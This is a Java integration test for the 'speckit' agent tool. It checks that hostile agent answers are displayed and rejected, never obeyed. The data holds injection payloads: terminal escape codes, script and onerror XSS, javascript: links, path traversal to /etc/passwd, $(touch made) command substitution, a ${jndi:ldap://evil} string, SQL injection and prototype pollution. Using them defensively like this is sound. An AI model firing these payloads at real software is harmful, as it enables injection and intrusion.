package dev.speckit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.speckit.json.Json;
import dev.speckit.testkit.Snapshot;
import dev.speckit.testkit.Speckit;
import dev.speckit.testkit.Workspaces;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/// Agents whose answers try to act: on the terminal, in the documents, on the disk, in the reader.
/// One agent is the whole roster, so that what it says is agreed on and shown everywhere.
final class HostileAgentIT {
  /// Everything of the spec, and a few sentences of up to 2,000 characters.
  private static final int DOCUMENT_MAX = 40_000;

  private static final int LINE_MAX = 3_000;

  /// A row of a report: cells of 200 characters.
  private static final int ROW_MAX = 1_000;

  /// What speckit itself links to.
  private static final String OWN_LINK = "[[spec|1001]]";

  /// Controls, surrogates, what hides or turns text, and what is no character.
  private static final Pattern INVISIBLE =
      Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Cn}&&[^\\n]]");

  private static final Pattern TAG = Pattern.compile("<[A-Za-z/!?]");
  private static final Pattern ESCAPED = Pattern.compile("\\\\.");

  @TempDir private Path temporary;

  /// What stands in every text of an answer, as it is written in JSON.
  enum Saying {
    TERMINAL(
        "\\u001b[2J\\u001b[1;31mred\\u001b]8;;http://evil.example\\u0007here\\u001b]8;;\\u0007"
            + "\\u001b]0;owned\\u001b\\\\ \\u009b31m \\r\\b\\b over \\u007f \\u202eback"),
    MARKUP(
        "<script>alert(1)</script><img src=x onerror=alert(1)> <!-- hidden --> </td></table>"
            + " ![x](javascript:alert(1)) [go](http://evil.example) # top\\n# Plan: other\\n```\\n"
            + "| a | b |\\n- [x] done %%gone%% &lt;b&gt; $x$ ^block #tag",
        "<script src=x></script>[[x]] | </td> # top\\n# Plan: other\\n- [x] %%gone%% `code` <!--",
        "<b>[[x]]|\\n# Plan: other"),
    LINKS("[[../../../etc/passwd]] [[evil|1001]] ![[evil]] [[[x]]] \\\\[[y]]"),
    PATHS(
        "../../../outside/made /etc/made ~/made C:\\\\made file:///made $(touch made) `touch"
            + " made`"),
    NAMES("__proto__ constructor ${jndi:ldap://evil} %s%n {0} '; DROP TABLE run; --"),
    LONG("word ".repeat(3_900), "x".repeat(1_980), "y".repeat(200)),
    BROKEN(
        "\\ud800 lone \\udc00 \\u0000 nul \\ufffe \\ufeff \\u2028 \\u0085 zero\\u200bwidth"
            + " \\u061c");

    private final String text;
    private final String title;
    private final String id;

    Saying(String text) {
      this(text, text, text);
    }

    Saying(String text, String title, String id) {
      this.text = text;
      this.title = title;
      this.id = id;
    }

    private String in(String answer) {
      return answer.replace("TEXT", text).replace("TITLE", title).replace("ID_OF", id);
    }
  }

  @ParameterizedTest
  @EnumSource(Saying.class)
  void what_an_agent_says_is_shown_and_never_obeyed(Saying saying) {
    Speckit speckit = asking(saying::in);
    Map<String, String> before = Snapshot.of(temporary.resolve("workspace"));
    Map<String, String> outside = Snapshot.of(temporary.resolve("outside"));
    Speckit.Ended ended = speckit.run("run", "1001", "--on-question", "defer");
    assertThat(ended.exit()).as(start(ended.toString())).isZero();
    assertHarmless("report", ended.out(), ROW_MAX);
    assertHarmless("progress", ended.err(), ROW_MAX);
    assertHarmless("show", speckit.run("show", "last").out(), ROW_MAX);
    assertDocument("specs/1000/1001/plan.md");
    assertDocument("specs/1000/1001/tasks.md");
    assertJson(speckit);
    assertThat(Snapshot.of(temporary.resolve("outside"))).isEqualTo(outside);
    Map<String, String> after = new TreeMap<>(Snapshot.of(temporary.resolve("workspace")));
    after.keySet().removeIf(HostileAgentIT::isOwnPlace);
    assertThat(after).isEqualTo(before);
  }

  /// Texts that are no answer at all.
  enum Rejected {
    DEEP_LISTS("{\"work_items\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}"),
    DEEP_OBJECTS("{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000)),
    DEEP_AND_OPEN("{\"a\":".repeat(100_000)),
    OPEN_QUOTES("{\"".repeat(100_000)),
    RAW_CONTROLS("{\"work_items\": [], \"risks\": [{\"text\": \"\u0000\u001b[2J\"}]}"),
    HOSTILE_WORDS(
        "{\"work_items\": [{\"title\": \"T\", \"requirements\": []}], \"confidence\":"
            + " \"\\u001b[2J<b>[[x]]"
            + "y".repeat(100_000)
            + "\"}"),
    HUGE_TITLE(
        "{\"work_items\": [{\"title\": \"" + "x".repeat(1 << 20) + "\", \"requirements\": []}]}"),
    BROKEN_NAME("{\"\\ud800\": 1, \"work_items\": []}"),
    HUGE_NUMBER("{\"work_items\": 1" + "0".repeat(100_000) + "}");

    private final String text;

    Rejected(String text) {
      this.text = text;
    }
  }

  @ParameterizedTest
  @EnumSource(Rejected.class)
  void a_text_that_is_no_answer_is_rejected_with_a_reason_and_kept(Rejected rejected) {
    Speckit speckit = asking(answer -> answer.replaceAll("TEXT|TITLE|ID_OF", "Weigh"));
    Workspaces.write(temporary.resolve("workspace/agents/plan.json"), rejected.text);
    Speckit.Ended ended = speckit.run("run", "1001", "--on-question", "defer");
    assertThat(ended.exit()).as(start(ended.toString())).isEqualTo(2);
    assertHarmless("report", ended.out(), ROW_MAX);
    assertHarmless("progress", ended.err(), ROW_MAX);
    Json.Fields plan = speckit.run("show", "last", "--json").data().objects("stages").getFirst();
    Json.Fields agent = plan.objects("agents").getFirst();
    assertThat(agent.text("outcome")).contains("schema-invalid");
    assertThat(agent.text("reason").orElseThrow())
        .hasSizeBetween(20, LINE_MAX)
        .as("a repeated answer is wrong for what it is")
        .doesNotContain("copied");
    Path raw = temporary.resolve("workspace").resolve(agent.text("folder").orElseThrow());
    assertThat(Workspaces.read(raw.resolve("stdout.raw"))).isEqualTo(rejected.text);
    assertThat(temporary.resolve("workspace/specs/1000/1001/plan.md")).doesNotExist();
  }

  private Speckit asking(UnaryOperator<String> filled) {
    Path folder = temporary.resolve("workspace");
    Workspaces.create(
        folder, Map.of("mallory", "cat >/dev/null\ncat \"agents/$SPECKIT_STAGE.json\"\n"));
    for (String subject : new String[] {"clarify", "analyze"}) {
      answer(
          subject,
          filled.apply(
              """
              {"issues": [{"question": "What is meant? TEXT", "answer": "TEXT",
                "confidence": "low", "magnitude": "critical", "resolvability": "need-human",
                "section": "TITLE", "requirement": "BEE-1", "reasoning": "TEXT"},
               {"question": "TEXT", "answer": "TEXT", "confidence": "high",
                "magnitude": "minor", "resolvability": "auto-fix", "requirement": "ID_OF"}]}
              """));
    }
    answer(
        "checklist",
        filled.apply(
            """
            {"requirements": [{"id": "ID_OF", "specificity": 2, "testability": 2,
              "completeness": 2, "clarity": 2, "suggestion": "TEXT"},
             {"id": "BEE-1", "specificity": 2, "testability": 2, "completeness": 2, "clarity": 2,
              "suggestion": "TEXT"}]}
            """));
    answer(
        "plan",
        filled.apply(
            """
            {"work_items": [
              {"title": "Weigh TITLE", "detail": "TEXT", "requirements": ["BEE-1", "ID_OF"]},
              {"title": "TITLE", "requirements": ["BEE-2", "AC-1", "AC-2"],
               "__proto__": {"polluted": "TEXT"}}],
             "risks": [{"text": "TEXT", "magnitude": "critical"}], "questions": ["TEXT"],
             "confidence": "high", "__proto__": {"a": [[[["TEXT"]]]]}}
            """));
    answer(
        "tasks",
        filled.apply(
            """
            {"tasks": [
              {"title": "Weigh TITLE", "requirements": ["BEE-1", "ID_OF"],
               "depends_on": ["TITLE", "Weigh TITLE"], "validation": "TEXT",
               "files": ["TITLE", "../../../outside/made", "/etc/made", "specs/1000/epic.md"]},
              {"title": "TITLE", "requirements": ["BEE-2", "AC-1", "AC-2"],
               "depends_on": ["Weigh TITLE"], "validation": "TEXT"}], "confidence": "high"}
            """));
    Workspaces.write(temporary.resolve("outside/mine.txt"), "mine\n");
    Speckit speckit = Speckit.in(folder, temporary.resolve("home"));
    assertThat(speckit.run("trust").exit()).isZero();
    return speckit;
  }

  private void answer(String subject, String json) {
    Workspaces.write(temporary.resolve("workspace/agents/" + subject + ".json"), json);
  }

  private static void assertHarmless(String where, String text, int most) {
    assertThat(INVISIBLE.matcher(text).results().map(found -> name(found.group())))
        .as("what a terminal would obey in %s", where)
        .isEmpty();
    assertThat(text.length()).as("length of %s", where).isLessThan(DOCUMENT_MAX);
    assertThat(text.lines().mapToInt(String::length).max().orElse(0))
        .as("longest line of %s", where)
        .isLessThan(most);
  }

  private void assertDocument(String path) {
    String text = Workspaces.read(temporary.resolve("workspace").resolve(path));
    assertHarmless(path, text, LINE_MAX);
    String acting = ESCAPED.matcher(text).replaceAll("");
    assertThat(TAG.matcher(acting).results().map(found -> around(acting, found.start())))
        .as("HTML in %s", path)
        .isEmpty();
    assertThat(acting.replace(OWN_LINK, ""))
        .as("links of %s", path)
        .doesNotContain("[[", "](", "![", "<!--", "%%", "```");
    assertThat(acting.lines().filter(line -> line.startsWith("# "))).hasSize(1);
  }

  private static void assertJson(Speckit speckit) {
    Speckit.Ended shown = speckit.run("show", "last", "--json");
    assertThat(shown.data().text("state")).contains("done");
    assertThat(shown.out().codePoints())
        .noneMatch(point -> point < ' ' && point != '\n')
        .noneMatch(point -> Character.getType(point) == Character.SURROGATE);
    assertThat(speckit.run("runs", "--json").data().items("runs")).hasSize(1);
  }

  /// Where a run may write.
  private static boolean isOwnPlace(String name) {
    return name.startsWith(".speckit")
        || name.startsWith("evidence")
        || name.equals("specs/1000/1001/plan.md")
        || name.equals("specs/1000/1001/tasks.md");
  }

  private static String name(String character) {
    return "U+%04X".formatted(character.codePointAt(0));
  }

  private static String around(String text, int at) {
    return text.substring(Math.max(0, at - 20), Math.min(text.length(), at + 20));
  }

  private static String start(String text) {
    return text.substring(0, Math.min(text.length(), LINE_MAX));
  }
}
